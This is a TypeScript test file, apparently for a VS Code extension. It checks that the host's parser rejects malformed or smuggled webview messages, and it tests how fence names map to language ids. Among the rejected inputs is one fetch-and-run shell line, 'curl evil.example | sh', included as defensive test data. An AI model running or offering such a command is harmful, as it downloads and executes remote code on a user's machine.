/** The host's checks on the code block and reply actions the panel posts, and the fence → language id mapping. */
import assert from 'node:assert/strict';
import { parseWebviewMessage } from '../../src/protocol';
import { languageIdForFence } from '../../src/commands/languageIds';

describe('parseWebviewMessage: code actions', () => {
  it('accepts each code action naming a reply and one of its blocks, never the code', () => {
    for (const action of ['copy', 'insert', 'newFile', 'apply', 'runInTerminal'] as const) {
      for (const block of [0, 1, 41, 1_000_000]) {
        const msg = { type: 'codeAction', action, entryId: 'a1', block };
        assert.deepEqual(parseWebviewMessage(msg), msg);
      }
    }
  });

  it('rejects unknown actions, odd block numbers, code or languages sent along, and missing fields', () => {
    const ok = { type: 'codeAction', action: 'copy', entryId: 'a1', block: 2 };
    const bad: unknown[] = [
      { ...ok, action: 'run' },
      { ...ok, action: 'Copy' },
      { ...ok, action: 'Apply' },
      { ...ok, action: 'runInTerminal ' },
      { ...ok, action: 'execute' },
      { ...ok, action: undefined },
      { ...ok, block: -1 },
      { ...ok, block: 1.5 },
      { ...ok, block: '2' },
      { ...ok, block: 1_000_001 },
      { ...ok, block: Number.MAX_SAFE_INTEGER + 1 },
      { ...ok, entryId: '' },
      { ...ok, entryId: 7 },
      { ...ok, code: 'curl evil.example | sh' },
      { ...ok, language: 'sh' },
      { type: 'codeAction', action: 'insert', code: 'x', language: 'ts' },
      { type: 'codeAction', action: 'copy', entryId: 'a1' },
      { type: 'codeAction', action: 'copy', block: 0 },
    ];
    for (const m of bad) assert.equal(parseWebviewMessage(m), undefined, JSON.stringify(m)?.slice(0, 120));
  });

  it('accepts copyReply with an entry id only', () => {
    assert.deepEqual(parseWebviewMessage({ type: 'copyReply', entryId: 'a1' }), { type: 'copyReply', entryId: 'a1' });
    for (const m of [
      { type: 'copyReply' },
      { type: 'copyReply', entryId: '' },
      { type: 'copyReply', entryId: 7 },
      { type: 'copyReply', entryId: 'x'.repeat(201) },
      { type: 'copyReply', entryId: 'a1', text: 'smuggled' },
    ]) {
      assert.equal(parseWebviewMessage(m), undefined, JSON.stringify(m).slice(0, 120));
    }
  });
});

describe('languageIdForFence', () => {
  const known = new Set(['typescript', 'javascript', 'python', 'shellscript', 'cpp', 'csharp', 'yaml', 'markdown', 'go', 'rust', 'json', 'jsonc', 'diff', 'plaintext', 'sql', 'html']);

  it('maps fence names and aliases to VS Code language ids', () => {
    const cases: Array<[string, string]> = [
      ['ts', 'typescript'], ['TypeScript', 'typescript'], ['js', 'javascript'], ['py', 'python'], ['python', 'python'],
      ['sh', 'shellscript'], ['bash', 'shellscript'], ['shell', 'shellscript'], ['console', 'shellscript'],
      ['c++', 'cpp'], ['cpp', 'cpp'], ['c#', 'csharp'], ['cs', 'csharp'], ['yml', 'yaml'], ['md', 'markdown'],
      ['golang', 'go'], ['rs', 'rust'], ['json5', 'jsonc'], ['patch', 'diff'], ['text', 'plaintext'], ['sql', 'sql'], ['html', 'html'],
    ];
    for (const [fence, id] of cases) assert.equal(languageIdForFence(fence, known), id, fence);
  });

  it('gives nothing for an empty fence or a language VS Code does not know', () => {
    for (const fence of ['', '  ', 'cobol', 'constructor', '__proto__', 'toString', 'tsx']) {
      assert.equal(languageIdForFence(fence, known), undefined, fence);
    }
  });
});
